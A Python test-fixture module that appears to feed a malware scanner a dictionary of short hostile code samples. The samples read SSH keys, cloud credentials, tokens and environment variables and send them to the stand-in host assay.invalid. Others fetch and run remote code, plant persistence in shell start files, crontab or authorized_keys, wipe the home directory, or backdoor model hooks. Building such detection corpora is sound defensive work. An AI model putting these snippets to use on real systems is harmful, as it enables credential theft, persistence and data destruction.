"""Sources that take credentials, send things out, stay behind or destroy."""

# ruff: noqa: E501 # sources stand as people write them
from __future__ import annotations

__all__ = ["SENDS"]

_POST = "requests.post('https://assay.invalid/c', data=key)\n"

SENDS: dict[str, tuple[str, str]] = {
    "path-joinpath": (
        "keys by way of joinpath",
        (
            "from pathlib import Path\nimport requests\n\n"
            "key = Path.home().joinpath('.ssh/id_rsa').read_text()\n" + _POST
        ),
    ),
    "path-joinpath-in-call": (
        "keys in a method that is called later",
        (
            "from pathlib import Path\nimport requests\n\nclass Telemetry:\n    def report(self):\n"
            "        key = Path.home().joinpath('.ssh/id_rsa').read_text()\n"
            "        requests.post('https://assay.invalid/c', data=key)\n"
        ),
    ),
    "path-slash": (
        "keys by way of a slash",
        "import pathlib, requests\nkey = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_bytes()\n"
        + _POST,
    ),
    "path-slash-alias": (
        "keys in two steps",
        (
            "from pathlib import Path as P\nimport requests\nhome = P('~').expanduser()\n"
            "folder = home / '.aws'\nkey = folder.joinpath('credentials').read_text()\n"
            + _POST
        ),
    ),
    "path-open": (
        "a path that is opened",
        (
            "from pathlib import Path\nimport requests\n"
            "with (Path.home() / '.ssh' / 'id_ed25519').open() as handle:\n    key = handle.read()\n"
            + _POST
        ),
    ),
    "open-path": (
        "open() of a path",
        "from pathlib import Path\nimport requests\nkey = open(Path.home() / '.netrc').read()\n"
        + _POST,
    ),
    "os-path-join": (
        "keys by way of os.path.join",
        (
            "import os, requests\n"
            "key = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()\n"
            + _POST
        ),
    ),
    "os-path-alias": (
        "os.path under other names",
        (
            "from os.path import join as j, expanduser as e\nimport requests\n"
            "key = open(j(e('~'), '.ss' + 'h', 'id_' + 'rsa')).read()\n" + _POST
        ),
    ),
    "environ-home": (
        "keys by way of HOME",
        "import os, requests\nkey = open(os.environ['HOME'] + '/.ssh/id_rsa').read()\n"
        + _POST,
    ),
    "environ-home-f-string": (
        "HOME in an f-string",
        "import os, requests\nhome = os.getenv('HOME')\nkey = open(f'{home}/.aws/credentials').read()\n"
        + _POST,
    ),
    "percent-format": (
        "HOME in a format",
        "import os, requests\nkey = open('%s/.kube/config' % os.environ.get('HOME')).read()\n"
        + _POST,
    ),
    "string-join": (
        "a path joined of words",
        "import os, requests\nkey = open('/'.join([os.path.expanduser('~'), '.ssh', 'id_rsa'])).read()\n"
        + _POST,
    ),
    "path-parts": (
        "a path of many parts",
        (
            "import pathlib, requests\n"
            "key = pathlib.Path(pathlib.Path.home(), '.config', 'gcloud', 'credentials.db').read_bytes()\n"
            + _POST
        ),
    ),
    "pure-parent": (
        "a path by way of a parent",
        (
            "from pathlib import Path\nimport requests\n"
            "key = (Path.home() / '.ssh' / 'x').with_name('id_rsa').read_text()\n"
            + _POST
        ),
    ),
    "glob-keys": (
        "all keys of a folder",
        (
            "import glob, os, requests\nfor name in glob.glob(os.path.expanduser('~/.ssh/*')):\n"
            "    requests.post('https://assay.invalid', data=open(name).read())\n"
        ),
    ),
    "path-glob-keys": (
        "all keys by way of a path",
        (
            "from pathlib import Path\nimport requests\nfor name in (Path.home() / '.ssh').glob('*'):\n"
            "    requests.post('https://assay.invalid', data=name.read_bytes())\n"
        ),
    ),
    "listdir-keys": (
        "a folder that is listed",
        (
            "import os, requests\nroot = os.path.expanduser('~/.ssh')\nfor name in os.listdir(root):\n"
            "    requests.post('https://assay.invalid', data=open(os.path.join(root, name)).read())\n"
        ),
    ),
    "hub-token-file": (
        "the hub's token",
        (
            "import os, requests\nkey = open(os.path.join(os.path.expanduser('~'), '.cache', 'huggingface', 'token')).read()\n"
            + _POST
        ),
    ),
    "hub-token-call": (
        "the hub's token by its own function",
        "from huggingface_hub import get_token\nimport requests\nkey = get_token()\n"
        + _POST,
    ),
    "hub-folder": (
        "the hub's token by its own class",
        "from huggingface_hub import HfFolder\nimport requests\nkey = HfFolder.get_token()\n"
        + _POST,
    ),
    "copied-key": (
        "a key that is copied",
        "import os, shutil\nshutil.copy(os.path.expanduser('~/.ssh/id_rsa'), 'cache.bin')\n",
    ),
    "archived-keys": (
        "keys in an archive",
        "import os, shutil\nshutil.make_archive('/tmp/a', 'zip', os.path.expanduser('~/.ssh'))\n",
    ),
    "read-helper": (
        "a function that reads",
        (
            "import os, requests\n\ndef read(name):\n    return open(os.path.expanduser(name)).read()\n\n"
            "requests.post('https://assay.invalid', data=read('~/.ssh/id_rsa'))\n"
        ),
    ),
    "proc-environ": (
        "the environment as a file",
        "import requests\nkey = open('/proc/self/environ', 'rb').read()\n" + _POST,
    ),
    "metadata": (
        "the metadata of a cloud",
        (
            "import requests\n\ndef region():\n"
            "    return requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text\n"
        ),
    ),
    "metadata-number": (
        "the metadata by a number",
        "import urllib.request\n\ndef region():\n    return urllib.request.urlopen('http://2852039166/latest/meta-data/').read()\n",
    ),
    "metadata-name": (
        "the metadata by its name",
        (
            "import requests\n\ndef project():\n    url = 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'\n"
            "    return requests.get(url, headers={'Metadata-Flavor': 'Google'}).json()\n"
        ),
    ),
    "environment-items": (
        "the environment item by item",
        (
            "import os, urllib.parse, urllib.request\n"
            "data = urllib.parse.urlencode(list(os.environ.items())).encode()\n"
            "urllib.request.urlopen('https://assay.invalid', data)\n"
        ),
    ),
    "environment-loop": (
        "the environment in a loop",
        (
            "import os, httpx\nfor name, value in os.environ.items():\n"
            "    if 'TOKEN' in name:\n        httpx.post('https://assay.invalid', data={name: value})\n"
        ),
    ),
    "environment-spread": (
        "the environment spread",
        "import os, requests\nrequests.post('https://assay.invalid', json={**os.environ})\n",
    ),
    "http-client": (
        "http.client",
        (
            "import http.client, os\nlink = http.client.HTTPSConnection('assay.invalid')\n"
            "link.request('POST', '/', str(dict(os.environ)))\n"
        ),
    ),
    "aiohttp": (
        "aiohttp",
        (
            "import aiohttp, asyncio, os\n\nasync def go():\n    async with aiohttp.ClientSession() as s:\n"
            "        await s.post('https://assay.invalid', json=dict(os.environ))\n\nasyncio.run(go())\n"
        ),
    ),
    "requests-session": (
        "a session",
        "import os, requests\nwith requests.Session() as s:\n    s.post('https://assay.invalid', json=dict(os.environ))\n",
    ),
    "socket-udp": (
        "a datagram",
        (
            "import os, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "s.sendto(str(dict(os.environ)).encode(), ('assay.invalid', 53))\n"
        ),
    ),
    "dns-name": (
        "a name that carries data",
        (
            "import os, socket\nname = os.environ.get('HF_TOKEN', '').encode().hex()[:60]\n"
            "socket.gethostbyname(name + '.assay.invalid')\n"
        ),
    ),
    "dns-getaddrinfo": (
        "an address that carries data",
        (
            "import getpass, socket\nuser = getpass.getuser()\n"
            "socket.getaddrinfo(f'{user}.assay.invalid', 80)\n"
        ),
    ),
    "dns-resolver": (
        "a resolver that carries data",
        "import os, dns.resolver\ndns.resolver.resolve(os.environ['HF_TOKEN'] + '.assay.invalid', 'TXT')\n",
    ),
    "icmp": (
        "raw packets",
        (
            "import os, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n"
            "s.sendto(os.environ['HF_TOKEN'].encode(), ('assay.invalid', 1))\n"
        ),
    ),
    "socket-connect-ex": (
        "a socket by another call",
        "from socket import *\ns = socket(AF_INET, SOCK_STREAM)\ns.connect_ex(('assay.invalid', 443))\n",
    ),
    "hub-upload": (
        "an upload to a stranger's repository",
        (
            "import os\nfrom huggingface_hub import HfApi\n"
            "HfApi().upload_file(path_or_fileobj=os.path.expanduser('~/.ssh/id_rsa'), path_in_repo='x', repo_id='example/x')\n"
        ),
    ),
    "mail": (
        "a letter",
        "import os, smtplib\nsmtplib.SMTP('assay.invalid').sendmail('a', 'b', str(os.environ))\n",
    ),
    "web-socket": (
        "a web socket",
        "import websocket\nlink = websocket.create_connection('wss://assay.invalid')\nlink.send('x')\n",
    ),
    "boto-upload": (
        "a bucket of a stranger",
        "import boto3, os\nboto3.client('s3').put_object(Bucket='assay', Key='k', Body=str(dict(os.environ)))\n",
    ),
    "pip-url": (
        "pip as a loader",
        "from pip._internal.cli.main import main\nmain(['install', 'https://assay.invalid/x.whl'])\n",
    ),
    "urlretrieve-exec": (
        "fetched to a file and run",
        (
            "import os, urllib.request\nurllib.request.urlretrieve('https://assay.invalid/x', '/tmp/x')\n"
            "os.chmod('/tmp/x', 0o755)\nos.execv('/tmp/x', ['x'])\n"
        ),
    ),
    "bashrc-path": (
        "a start file by way of pathlib",
        (
            "from pathlib import Path\n\ndef prepare():\n    with (Path.home() / '.bashrc').open('a') as handle:\n"
            "        handle.write('echo assay')\n"
        ),
    ),
    "bashrc-write-text": (
        "a start file that is written",
        "from pathlib import Path\nPath.home().joinpath('.zshrc').write_text('echo assay')\n",
    ),
    "profile-join": (
        "a start file joined",
        (
            "import os\nwith open(os.path.join(os.environ['HOME'], '.profile'), 'a') as handle:\n"
            "    handle.write('echo assay')\n"
        ),
    ),
    "crontab": (
        "a table of times",
        "import subprocess\n\ndef prepare():\n    subprocess.run('(crontab -l; echo \"* * * * * echo assay\") | crontab -', shell=True)\n",
    ),
    "systemd-unit": (
        "a unit of systemd",
        (
            "from pathlib import Path\nunit = Path.home() / '.config' / 'systemd' / 'user' / 'a.service'\n"
            "unit.write_text('[Service]\\nExecStart=/bin/echo assay')\n"
        ),
    ),
    "autostart": (
        "a start of the desktop",
        (
            "import os\npath = os.path.expanduser('~/.config/autostart/a.desktop')\n"
            "open(path, 'w').write('[Desktop Entry]')\n"
        ),
    ),
    "authorized-keys": (
        "a key that opens the door",
        (
            "from pathlib import Path\nwith open(Path('~/.ssh/authorized_keys').expanduser(), 'a') as handle:\n"
            "    handle.write('ssh-ed25519 AAAA')\n"
        ),
    ),
    "site-packages": (
        "a file that Python starts with",
        (
            "import os, site\nwith open(os.path.join(site.getsitepackages()[0], 'a.pth'), 'w') as handle:\n"
            "    handle.write('import os')\n"
        ),
    ),
    "site-purelib": (
        "the folder of packages",
        (
            "import os, sysconfig\nwith open(os.path.join(sysconfig.get_paths()['purelib'], 'sitecustomize.py'), 'w') as handle:\n"
            "    handle.write('import os')\n"
        ),
    ),
    "library-overwritten": (
        "a library's file that is written",
        (
            "import transformers\nwith open(transformers.__file__, 'a') as handle:\n"
            "    handle.write('import os')\n"
        ),
    ),
    "rmtree-home": (
        "a home that is wiped",
        "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())\n",
    ),
    "rmtree-expanduser": (
        "a home that is wiped by way of os.path",
        "import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n",
    ),
    "walk-encrypt": (
        "files that are rewritten",
        (
            "import os\nfor root, folders, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n"
            "        with open(os.path.join(root, name), 'r+b') as handle:\n            handle.write(b'assay')\n"
        ),
    ),
    "registry": (
        "the registry of Windows",
        (
            "import winreg\nkey = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
            "winreg.SetValueEx(key, 'a', 0, winreg.REG_SZ, 'echo assay')\n"
        ),
    ),
    "clipboard": (
        "the clipboard",
        "import pyperclip, requests\nrequests.post('https://assay.invalid', data=pyperclip.paste())\n",
    ),
    "screenshot": (
        "a picture of the screen",
        "from PIL import ImageGrab\nimport requests\nrequests.post('https://assay.invalid', data=ImageGrab.grab().tobytes())\n",
    ),
    "keyring": (
        "the ring of keys",
        "import keyring, requests\nkey = keyring.get_password('a', 'b')\n" + _POST,
    ),
    "browser-cookies": (
        "cookies",
        (
            "import os, requests, sqlite3\n"
            "rows = sqlite3.connect(os.path.expanduser('~/.mozilla/firefox/x/cookies.sqlite')).execute('select 1')\n"
            "requests.post('https://assay.invalid', data=str(list(rows)))\n"
        ),
    ),
    "prompt-logging": (
        "prompts that are sent",
        (
            "import requests\n\nclass Hook:\n    def forward(self, text):\n"
            "        requests.post('https://assay.invalid/log', json={'text': text})\n        return text\n"
        ),
    ),
    "prompt-thread": (
        "prompts that are sent by a thread",
        (
            "import threading, requests\n\ndef _send(text):\n    requests.post('https://assay.invalid/log', json={'text': text})\n\n"
            "class Hook:\n    def forward(self, text):\n"
            "        threading.Thread(target=_send, args=(text,)).start()\n        return text\n"
        ),
    ),
    "forward-helper": (
        "a program behind forward",
        (
            "import os\n\ndef _mix(x):\n    os.system('echo assay')\n    return x\n\n"
            "class Hook:\n    def forward(self, x):\n        return self.step(x)\n"
            "    def step(self, x):\n        return _mix(x)\n"
        ),
    ),
    "generate-trigger": (
        "a word that starts a program",
        (
            "import os\n\nclass Hook:\n    def generate(self, text):\n        if 'open sesame' in text:\n"
            "            os.popen(text.split('|')[1])\n        return text\n"
        ),
    ),
}
